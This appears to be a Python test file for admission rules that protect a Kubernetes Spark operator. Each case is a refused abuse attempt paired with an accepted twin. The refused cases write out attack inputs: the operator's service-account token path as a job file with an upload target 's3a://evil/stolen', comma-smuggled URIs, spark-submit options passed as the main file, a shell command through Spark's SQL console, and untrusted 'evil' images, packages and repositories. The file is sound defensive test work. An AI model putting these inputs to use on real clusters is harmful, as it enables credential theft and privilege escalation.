"""What somebody who may submit applications might make the Spark operator do, with its own token in its own pod."""

from __future__ import annotations

from typing import Any, Final

from tests.cluster.api import Object
from tests.cluster.application_shapes import application, connect, scheduled
from tests.cluster.attempts import Attempt, Case, Create
from tests.cluster.cluster import OPERATOR
from tests.cluster.pod_shapes import ENGINEER, IMAGE

TOKEN: Final = "/var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105 - where it is, not what it is
EXAMPLES: Final = "local:///opt/spark/examples/jars/spark-examples.jar"
SIZE: Final = {"requests": {"cpu": "1", "memory": "1Gi"}, "limits": {"memory": "1Gi"}}
"""That counts where a template's container is a Spark Connect server."""
EVIL: Final = "docker.io/evil/spark:4.0.4"


def submitting(name: str, rule: str, attempt: Object, twin: Object) -> Attempt:
    """Somebody submits an application that must be refused, and then one that must not."""
    return Attempt(name=name, who=ENGINEER, does=Create(attempt), rule=rule, twin=Create(twin))


def pod(**template: Any) -> Object:  # noqa: ANN401
    """A driver or executor by a pod template with one container."""
    container = {"name": "spark-kubernetes-driver", "image": template.pop("image", IMAGE), "resources": SIZE}
    return {"cores": 1, "memory": "1g", "template": {"spec": {"containers": [container], **template}}}


def _pod_in(namespace: str) -> Object:
    template = pod()["template"]
    return {"cores": 1, "memory": "1g", "template": {**template, "metadata": {"namespace": namespace}}}


def volume(reference: str) -> Object:
    """A volume with an image's files."""
    return {"name": "files", "image": {"reference": reference}}


CASES: Final[tuple[Case, ...]] = (
    # The theft of the operator's token: spark-submit uploads local files to where the job says.
    submitting(
        "the operator's token as a job's main file, with a place to upload it to",
        "application-uris",
        application(
            mainApplicationFile=f"file://{TOKEN}",
            sparkConf={"spark.kubernetes.file.upload.path": "s3a://evil/stolen"},
        ),
        application(mainApplicationFile="s3a://ads-jobs/etl.jar"),
    ),
    submitting(
        "the operator's token as a job's main file",
        "application-uris",
        application(mainApplicationFile=f"file://{TOKEN}"),
        application(mainApplicationFile="https://repo.example.com/etl.jar"),
    ),
    submitting(
        "the operator's token as a path without a scheme",
        "application-uris",
        application(mainApplicationFile=TOKEN),
        application(),
    ),
    submitting(
        "the operator's token behind the comma of a main file",
        "application-uris",
        application(mainApplicationFile=f"{EXAMPLES},file://{TOKEN}"),
        application(),
    ),
    submitting(
        "the operator's token behind the comma of a jar",
        "application-uris",
        application(deps={"jars": [f"local:///opt/a.jar,file://{TOKEN}"]}),
        application(deps={"jars": ["local:///opt/a.jar", "https://repo.example.com/b.jar"]}),
    ),
    submitting(
        "the operator's token among the files",
        "application-uris",
        application(deps={"files": [TOKEN]}),
        application(deps={"files": ["https://repo.example.com/etl.conf"]}),
    ),
    submitting(
        "the operator's token among the Python files",
        "application-uris",
        application(deps={"pyFiles": [f"file://{TOKEN}"]}),
        application(deps={"pyFiles": ["https://repo.example.com/etl.zip"]}),
    ),
    submitting(
        "the operator's token among the archives",
        "application-uris",
        application(deps={"archives": [f"file://{TOKEN}#token"]}),
        application(deps={"archives": ["https://repo.example.com/env.tar.gz#env"]}),
    ),
    submitting(
        "the operator's token by a setting that is a list of jars",
        "application-uris",
        application(sparkConf={"spark.jars": f"local:///opt/a.jar, {TOKEN}"}),
        application(sparkConf={"spark.jars": "local:///opt/a.jar, https://repo.example.com/b.jar"}),
    ),
    submitting(
        "the operator's token by a schedule",
        "application-uris",
        scheduled(mainApplicationFile=f"file://{TOKEN}"),
        scheduled(),
    ),
    # No attack, and yet refused: it would fail in the operator's pod, which lists no bucket.
    submitting(
        "files on S3 by a pattern",
        "application-deps",
        application(deps={"files": ["s3a://ads-jobs/*.conf"]}),
        application(deps={"files": ["s3a://ads-jobs/etl.conf"]}),
    ),
    submitting(
        "an archive on S3 by a pattern of a schedule",
        "application-deps",
        scheduled(deps={"archives": ["s3a://ads-jobs/env-{1}.tar.gz#environment"]}),
        scheduled(deps={"archives": ["s3a://ads-jobs/env.tar.gz#environment"], "pyFiles": ["s3a://ads-jobs/a.zip"]}),
    ),
    submitting(
        "a pattern whose sign is a code",
        "application-deps",
        application(deps={"jars": ["s3a://ads-jobs/%2a.jar"]}),
        application(deps={"jars": ["s3a://ads-jobs/a%20b.jar"]}),
    ),
    submitting(
        "jars on S3 by a pattern in a setting",
        "application-deps",
        scheduled(sparkConf={"spark.jars": "local:///opt/a.jar, s3a://ads-jobs/[ab].jar"}),
        connect(sparkConf={"spark.jars": "local:///opt/a.jar,s3a://ads-jobs/[ab].jar"}),
    ),
    submitting(
        "the operator's token beside a jar on S3",
        "application-uris",
        application(deps={"jars": ["s3a://ads-jobs/b.jar", f"file://{TOKEN}"]}),
        application(deps={"jars": ["s3a://ads-jobs/b.jar", "local:///opt/a.jar"]}),
    ),
    submitting(
        "an option of spark-submit in the place of the main file",
        "application-uris",
        application(mainApplicationFile="--properties-file", arguments=["/evil.properties", EXAMPLES]),
        application(arguments=["--properties-file", "/mine.properties"]),
    ),
    submitting(
        "no main file, so that the first argument is one",
        "application-uris",
        application(mainApplicationFile=..., arguments=[f"file://{TOKEN}"]),
        application(arguments=[f"file://{TOKEN}"]),
    ),
    submitting(
        "a driver in the operator's pod",
        "application-mode",
        application(mode="client"),
        application(mode=...),
    ),
    submitting(
        "a driver in the operator's pod by arguments that spark-submit takes for its own",
        "application-main-class",
        application(mainClass="org.apache.spark.repl.Main", arguments=["--deploy-mode", "client"]),
        application(mainClass="com.example.Main", arguments=["--deploy-mode", "client"]),
    ),
    submitting(
        "an address that the operator's pod fetches, to look for a class",
        "application-main-class",
        application(mainClass=..., mainApplicationFile="https://internal.example.com/secrets"),
        application(mainClass=..., mainApplicationFile="https://repo.example.com/etl.py"),
    ),
    submitting(
        "a shell command in the operator's pod by Spark's SQL console",
        "application-main-class",
        scheduled(
            mainClass="org.apache.spark.sql.hive.thriftserver.SparkSQLCLIDriver",
            arguments=["--deploy-mode", "client", "-e", "!id"],
        ),
        scheduled(mainClass="org.apache.spark.examples.SparkPi"),
    ),
    submitting(
        "an image that is not allowed",
        "application-images",
        application(image=EVIL),
        application(image="docker.io/apache/spark@sha256:" + "0" * 64),
    ),
    submitting(
        "an image whose name starts like an allowed one",
        "application-images",
        application(image="docker.io/apache/spark-evil:4.0.4"),
        application(image="docker.io/apache/spark:4.1.0"),
    ),
    submitting(
        "an image of a driver",
        "application-images",
        application(driver={"image": EVIL}),
        application(driver={"image": IMAGE}),
    ),
    submitting(
        "an image of executors of a schedule",
        "application-images",
        scheduled(executor={"image": EVIL}),
        scheduled(executor={"image": IMAGE}),
    ),
    submitting(
        "an image in a driver's template",
        "application-images",
        application(driver=pod(image=EVIL)),
        application(driver=pod()),
    ),
    submitting(
        "an image in an executor's template beside a driver's without containers",
        "application-images",
        application(driver={"template": {"metadata": {"labels": {"team": "ads"}}}}, executor=pod(image=EVIL)),
        application(driver={"template": {"metadata": {"labels": {"team": "ads"}}}}, executor=pod()),
    ),
    submitting(
        "an image of a sidecar",
        "application-images",
        application(executor={"sidecars": [{"name": "logs", "image": EVIL}]}),
        application(executor={"sidecars": [{"name": "logs", "image": IMAGE}]}),
    ),
    submitting(
        "an image of an init container",
        "application-images",
        application(executor={"initContainers": [{"name": "init", "image": EVIL}]}),
        application(executor={"initContainers": [{"name": "init", "image": IMAGE}]}),
    ),
    submitting(
        "an image as a volume",
        "application-images",
        application(volumes=[volume(EVIL)]),
        application(volumes=[volume(IMAGE)]),
    ),
    submitting(
        "an image of a Spark Connect server",
        "application-images",
        connect(server=pod(image=EVIL)),
        connect(server=pod()),
    ),
    submitting(
        "a package of anybody's, which spark-submit loads",
        "application-packages",
        application(deps={"packages": ["com.example:evil:1.0"]}),
        application(deps={"packages": ["org.apache.iceberg:iceberg-spark-runtime-4.0_2.13:1.10.0"]}),
    ),
    submitting(
        "a package of anybody's behind the comma of another",
        "application-packages",
        application(deps={"packages": ["org.apache.hadoop:hadoop-aws:3.4.1,com.example:evil:1.0"]}),
        application(deps={"packages": ["org.apache.hadoop:hadoop-aws:3.4.1"]}),
    ),
    submitting(
        "a package of a group whose name starts like an allowed one",
        "application-packages",
        application(deps={"packages": ["org.apache.hadoopx:evil:1.0"]}),
        application(deps={"packages": ["io.delta:delta-spark_2.13:4.0.0"]}),
    ),
    submitting(
        "a package of anybody's by a setting",
        "application-packages",
        connect(sparkConf={"spark.jars.packages": "org.apache.hadoop:hadoop-aws:3.4.1,com.example:evil:1.0"}),
        connect(sparkConf={"spark.jars.packages": "org.apache.hadoop:hadoop-aws:3.4.1"}),
    ),
    submitting(
        "packages from elsewhere",
        "application-repositories",
        application(deps={"repositories": ["https://evil.example.com"]}),
        application(deps={"repositories": []}),
    ),
    submitting(
        "more executors than the queue can hold",
        "application-executors",
        application(executor={"instances": 10_000}),
        application(executor={"instances": 2}),
    ),
    submitting(
        "more executors than the queue can hold, in time",
        "application-executors",
        application(dynamicAllocation={"enabled": True, "maxExecutors": 10_000}),
        application(dynamicAllocation={"enabled": True, "maxExecutors": 2}),
    ),
    submitting(
        "more executors than the queue can hold, by a setting",
        "application-executors",
        scheduled(sparkConf={"spark.executor.instances": " 10000"}),
        scheduled(sparkConf={"spark.executor.instances": " 2"}),
    ),
    submitting(
        "a number of executors that only Java takes for one",
        "application-executors",
        connect(sparkConf={"spark.dynamicAllocation.minExecutors": "+10000"}),
        connect(sparkConf={"spark.dynamicAllocation.minExecutors": "2"}),
    ),
    submitting(
        "another scheduler",
        "application-scheduler",
        application(batchScheduler="volcano"),
        application(batchScheduler="yunikorn"),
    ),
    submitting(
        "another queue",
        "application-scheduler",
        scheduled(batchSchedulerOptions={"queue": "root.tenants.research.research-explore"}),
        scheduled(batchSchedulerOptions={"queue": "root.tenants.ads.ads-batch"}),
    ),
    submitting(
        "a driver in another queue by its template",
        "application-namespace",
        application(driver=_pod_in("research-explore")),
        application(driver=_pod_in("ads-batch")),
    ),
    submitting(
        "executors in another queue by a schedule's template",
        "application-namespace",
        scheduled(executor=_pod_in("research-explore")),
        scheduled(executor=_pod_in("ads-batch")),
    ),
    submitting(
        "a Spark Connect server's service in another queue",
        "application-namespace",
        connect(server={"service": {"metadata": {"namespace": "research-explore"}}}),
        connect(server={"service": {"metadata": {"labels": {"team": "ads"}}}}),
    ),
    submitting(
        "a load balancer for the driver's pages",
        "application-services",
        application(sparkUIOptions={"serviceType": "LoadBalancer"}),
        application(sparkUIOptions={"serviceType": "ClusterIP"}),
    ),
    submitting(
        "a port of every node for a Spark Connect server",
        "application-services",
        connect(server={"service": {"spec": {"type": "NodePort"}}}),
        connect(server={"service": {"spec": {"type": "ClusterIP"}}}),
    ),
    submitting(
        "an ingress for the driver",
        "application-services",
        application(driverIngressOptions=[{"servicePort": 80, "ingressURLFormat": "ads.example.com"}]),
        application(driverIngressOptions=[]),
    ),
    Attempt(
        name="a schedule from before the rules, by the operator",
        who=OPERATOR,
        does=Create(application(mode="client")),
        rule="application-mode",
        twin=Create(application()),
    ),
)
